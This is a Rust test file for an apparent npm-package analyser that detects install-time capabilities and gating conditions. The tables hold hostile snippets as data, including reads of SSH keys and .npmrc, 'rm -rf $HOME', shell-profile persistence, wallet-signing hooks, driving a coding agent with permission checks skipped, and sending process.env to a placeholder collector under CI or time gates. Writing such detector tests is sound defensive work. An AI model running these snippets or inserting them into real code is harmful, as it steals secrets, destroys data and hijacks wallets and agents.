//! What code is able to do, one snippet each, and its near misses.

use weir_model::contents::{CapabilityKind, GateKind, HostClass, Surface};

use super::{installed, run};

use CapabilityKind::*;

/// Ability and code of `index.js`.
const ABLE: &[(CapabilityKind, &str)] = &[
    (
        Wallet,
        "const p = /\\b0x[a-fA-F0-9]{40}\\b/; module.exports = (t) => p.test(t);",
    ),
    (
        WrapsRequests,
        "const real = window.ethereum.request; window.ethereum.request = (c) => real(c);",
    ),
    (
        WritesPackages,
        "require('fs').writeFileSync(require.resolve('other/lib/x.js'), 'x')",
    ),
    (
        RemovesHome,
        "const fs = require('fs'); const home = require('os').homedir(); for (const name of fs.readdirSync(home)) fs.rmSync(`${home}/${name}`, { recursive: true });",
    ),
    (
        RemovesItself,
        "require('fs').writeFileSync(__filename, 'module.exports = {};')",
    ),
    (Network, "fetch('https://a.example')"),
    (
        Network,
        "const { request } = require('https'); request('https://a.example')",
    ),
    (
        Network,
        "const x = new XMLHttpRequest(); x.open('POST', 'https://a.example')",
    ),
    (Network, "import got from 'got'; got('https://a.example')"),
    (
        Network,
        "require('child_process').execSync('curl https://a.example')",
    ),
    (
        Dns,
        "const dns = require('node:dns/promises'); dns.resolveTxt(x)",
    ),
    (
        Process,
        "const { exec } = require('child_process'); exec(x)",
    ),
    (
        Process,
        "import { spawn } from 'node:child_process'; spawn('ls')",
    ),
    (
        DetachedProcess,
        "const cp = require('child_process'); cp.spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref()",
    ),
    (
        DetachedProcess,
        "require('child_process').exec('nohup ./x > /dev/null 2>&1 &')",
    ),
    (DynamicCode, "eval(x)"),
    (DynamicCode, "new Function('a', body)()"),
    (
        DynamicCode,
        "const vm = require('vm'); vm.runInThisContext(text)",
    ),
    (DynamicCode, "module._compile(text, name)"),
    (
        DynamicCode,
        "const { Worker } = require('worker_threads'); new Worker(text, { eval: true })",
    ),
    (Environment, "const a = process.env.HOME"),
    (
        SecretFiles,
        "const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.npmrc'))",
    ),
    (
        SecretFiles,
        "const fs = require('fs'); const f = `${process.env.HOME}/.ssh/id_rsa`; fs.promises.readFile(f)",
    ),
    (HostFacts, "import { hostname } from 'os'; hostname()"),
    (HostFacts, "require('os').userInfo()"),
    (
        WritesOutside,
        "require('fs').writeFileSync(require('os').homedir() + '/x.txt', '')",
    ),
    (
        Persists,
        "const fs = require('fs'), os = require('os'); fs.appendFileSync(os.homedir() + '/.bashrc', x)",
    ),
    (
        Persists,
        "const fs = require('fs'); const os = require('os'); const path = require('path'); const home = os.homedir(); const f = path.join(home, '.config', 'systemd', 'user', 'x.service'); fs.writeFileSync(f, x)",
    ),
    (
        Persists,
        "const fs = require('fs'), os = require('os'); const fd = fs.openSync(os.homedir() + '/.zshrc', 'a'); fs.writeSync(fd, x)",
    ),
    (
        Persists,
        "const fs = require('fs/promises'), os = require('os'); fs.open(os.homedir() + '/.bashrc', 'a').then((h) => h.appendFile(x))",
    ),
    (
        Persists,
        "const write = require('write-file-atomic'), os = require('os'); write(os.homedir() + '/.bashrc', x)",
    ),
    (
        Persists,
        "require('fs').writeFileSync('.github/workflows/x.yml', x)",
    ),
    (
        Persists,
        "require('child_process').execSync('systemctl --user enable x')",
    ),
    (
        Persists,
        "require('child_process').execSync('echo x >> ~/.zshrc')",
    ),
    (
        DrivesAgents,
        "require('fs').writeFileSync(process.cwd() + '/.claude/settings.json', x)",
    ),
    (
        DrivesAgents,
        "require('child_process').spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'x'])",
    ),
    (
        WritesPackages,
        "require('fs').writeFileSync(__dirname + '/../ethers/lib/index.js', x)",
    ),
    (
        WritesPackages,
        "const path = require('path'); require('fs').writeFileSync(path.join(__dirname, 'package.json'), x)",
    ),
    (RemovesItself, "require('fs').unlinkSync(__filename)"),
    (RemovesItself, "require('fs').rmSync(process.argv[1])"),
    (
        RemovesHome,
        "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })",
    ),
    (
        RemovesHome,
        "require('child_process').execSync('rm -rf $HOME')",
    ),
    (Removes, "require('fs').rmSync('dist', { recursive: true })"),
    (Native, "require('./x.node')"),
    (Native, "process.dlopen(module, x)"),
    (Clipboard, "navigator.clipboard.readText()"),
    (Clipboard, "require('child_process').execSync('pbpaste')"),
    (Wallet, "window.ethereum.request({ method: 'x' })"),
    (
        WrapsRequests,
        "const f = window.fetch; window.fetch = function (u) { return f(u) }",
    ),
    (
        WrapsRequests,
        "XMLHttpRequest.prototype.send = function (b) {}",
    ),
    (
        WrapsRequests,
        "const e = window.ethereum; e.request = async (a) => a",
    ),
    (
        WrapsRequests,
        "const { solana: s } = window; s.signAllTransactions = (t) => t",
    ),
    (
        WrapsRequests,
        "window.phantom.solana.signAndSendTransaction = (t) => t",
    ),
    (WrapsRequests, "window.tronWeb.trx.sign = (t) => t"),
    (
        WrapsRequests,
        "const w = globalThis.phantom?.solana || window.solana; w.signTransaction = (t) => t",
    ),
    (Wallet, "const { ethereum: e } = window"),
    (
        Publishes,
        "require('child_process').execSync('npm publish --access public')",
    ),
    (Publishes, "const body = { _attachments: { [name]: data } }"),
    (
        DisablesTls,
        "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
    ),
    (
        DisablesTls,
        "require('https').request({ rejectUnauthorized: false })",
    ),
    (
        DisablesTls,
        "require('child_process').execSync('curl -sk https://a.example')",
    ),
    (
        RemoteScript,
        "const s = document.createElement('script'); s.src = 'https://a.example/x.js'; document.head.append(s)",
    ),
    (
        RemoteScript,
        "Object.assign(document.createElement('script'), { async: true, src: 'https://a.example/x.js' })",
    ),
    (RemoteScript, "$.getScript('https://a.example/x.js')"),
    (
        RemoteScript,
        "document.write('<script src=\"https://a.example/x.js\"></script>')",
    ),
];

/// The ability must not be seen in this code.
const UNABLE: &[(CapabilityKind, &str)] = &[
    (Network, "const http = 'https://a.example'"),
    (Process, "/x/.exec(y)"),
    (Process, "const { exec } = require('./own'); exec(x)"),
    (DynamicCode, "Function('return this')()"),
    (DynamicCode, "eval('1 + 1')"),
    (
        DetachedProcess,
        "const cp = require('child_process'); cp.spawn('node', ['x.js'], { stdio: 'inherit' })",
    ),
    (SecretFiles, "require('fs').readFileSync('.npmrc.md')"),
    (
        Persists,
        "require('fs').writeFileSync('dist/.bashrc.txt', x)",
    ),
    (Persists, "console.log('add this to ~/.bashrc')"),
    (
        WritesPackages,
        "const path = require('path'); require('fs').writeFileSync(path.join(__dirname, 'dist', 'package.json'), x)",
    ),
    (
        WritesPackages,
        "require('fs').writeFileSync('node_modules/.cache/x', y)",
    ),
    (
        RemovesHome,
        "require('child_process').execSync('rm -rf ./dist')",
    ),
    (RemovesItself, "require('fs').unlinkSync('tmp.txt')"),
    (WrapsRequests, "window.fetch = fetch"),
    (
        WrapsRequests,
        "const { ethereum: e } = options; e.request = (a) => a; const f = window.fetcher; f.request = (a) => a",
    ),
    (
        RemoteScript,
        "Object.assign(document.createElement('img'), { src: 'https://a.example/x.js' }); $.getScript('./own.js')",
    ),
    (
        Publishes,
        "require('child_process').execSync('npm publish --dry-run')",
    ),
    (
        DisablesTls,
        "require('https').request({ rejectUnauthorized: true })",
    ),
    (
        RemoteScript,
        "const s = document.createElement('script'); s.src = chunk + '.js'",
    ),
    (
        DrivesAgents,
        "require('child_process').execSync('claude --version')",
    ),
];

#[test]
fn abilities_are_seen() {
    let mut wrong = String::new();
    for (kind, code) in ABLE {
        let facts = installed(&[("index.js", code)]);
        if !facts
            .capabilities
            .iter()
            .any(|one| one.kind == *kind && one.surface == Surface::Install)
        {
            wrong.push_str(&format!("{kind:?}: {code}\n  {:?}\n", facts.capabilities));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn what_only_looks_like_an_ability_is_none() {
    none_is_able(UNABLE);
}

/// None of the codes has the ability that stands beside it.
pub(super) fn none_is_able(table: &[(CapabilityKind, &str)]) {
    let mut wrong = String::new();
    for (kind, code) in table {
        let facts = installed(&[("index.js", code)]);
        if facts.capabilities.iter().any(|one| one.kind == *kind) {
            wrong.push_str(&format!("{kind:?}: {code}\n  {:?}\n", facts.capabilities));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn hosts_are_arguments_and_not_prose() {
    for (code, host, class) in [
        (
            "fetch('https://api.acme.example/x')",
            "api.acme.example",
            HostClass::Other,
        ),
        (
            "const u = 'https://x.ngrok.example'; fetch(u + '/a')",
            "x.ngrok.example",
            HostClass::Tunnel,
        ),
        (
            "require('http').request({ hostname: '203.0.113.7', path: '/' })",
            "203.0.113.7",
            HostClass::RawAddress,
        ),
        (
            "send('https://discord.example/api/webhooks/1/x')",
            "discord.example",
            HostClass::Webhook,
        ),
        (
            "require('net').connect(99, 'c.example')",
            "c.example",
            HostClass::Other,
        ),
        (
            "new Connection('https://api.mainnet-beta.solana.example')",
            "api.mainnet-beta.solana.example",
            HostClass::ChainRpc,
        ),
        (
            "require('child_process').exec('curl http://169.254.169.254/latest')",
            "169.254.169.254",
            HostClass::CloudMetadata,
        ),
        (
            "fetch('http://localhost:3000')",
            "localhost:3000",
            HostClass::Local,
        ),
    ] {
        let facts = installed(&[("index.js", code)]);
        assert!(
            facts
                .hosts
                .iter()
                .any(|one| one.host == host && one.class == class),
            "{code}: {:?}",
            facts.hosts
        );
    }
    for code in [
        "console.log('see https://x.ngrok.example')",
        "// https://x.ngrok.example\nlet a = 1",
        "const homepage = 'https://x.ngrok.example'",
        "throw new Error('https://x.ngrok.example')",
        "it('https://a.example', f)",
    ] {
        let facts = installed(&[("index.js", code)]);
        assert!(facts.hosts.is_empty(), "{code}: {:?}", facts.hosts);
    }
}

#[test]
fn an_ability_is_told_once_for_each_surface() {
    let facts = run(
        &[
            ("a.js", "require('./b')"),
            (
                "b.js",
                "fetch('https://a.example'); fetch('https://b.example')",
            ),
            ("c.js", "fetch('https://a.example')"),
        ],
        &["node a.js"],
        &[(Surface::Import, "b.js")],
    );
    let surfaces: Vec<Surface> = facts
        .capabilities
        .iter()
        .filter(|one| one.kind == Network)
        .map(|one| one.surface)
        .collect();
    assert_eq!(
        surfaces,
        [Surface::Install, Surface::Import, Surface::Unreferenced]
    );
}

#[test]
fn gates_are_told_with_the_flow() {
    const SEND: &str = "fetch('https://collector.invalid', { body: JSON.stringify(process.env) })";
    for (code, gate) in [
        (format!("if (process.env.CI) {{ {SEND} }}"), GateKind::Ci),
        (
            format!("const ci = process.env.GITHUB_ACTIONS; if (!ci) process.exit(0); {SEND}"),
            GateKind::Ci,
        ),
        (
            format!("function go() {{ if (!process.env.CI) return; {SEND} }} go()"),
            GateKind::Ci,
        ),
        (
            format!(
                "function go() {{ {SEND} }} function outer() {{ go() }} if (new Date().getDay() === 3) outer()"
            ),
            GateKind::Time,
        ),
        (
            format!("setTimeout(() => {{ {SEND} }}, 10 * 60 * 1000)"),
            GateKind::Time,
        ),
        (
            format!("Intl.DateTimeFormat().resolvedOptions().timeZone === 'x' && {SEND}"),
            GateKind::Locale,
        ),
        (
            format!("if (process.env.npm_package_name === 'x') {SEND}"),
            GateKind::Target,
        ),
        (
            format!("typeof window === 'undefined' || {SEND}"),
            GateKind::Browser,
        ),
        (
            format!("switch (process.platform) {{ case 'linux': {SEND} }}"),
            GateKind::Platform,
        ),
    ] {
        let facts = installed(&[("index.js", &code)]);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| flow.gates.iter().any(|one| one.kind == gate)),
            "{code}: {:?}",
            facts.flows
        );
    }
    let facts = installed(&[(
        "index.js",
        &format!("if (process.env.CI) {{ other() }} {SEND}"),
    )]);
    assert!(facts.flows[0].gates.is_empty(), "{:?}", facts.flows);
}
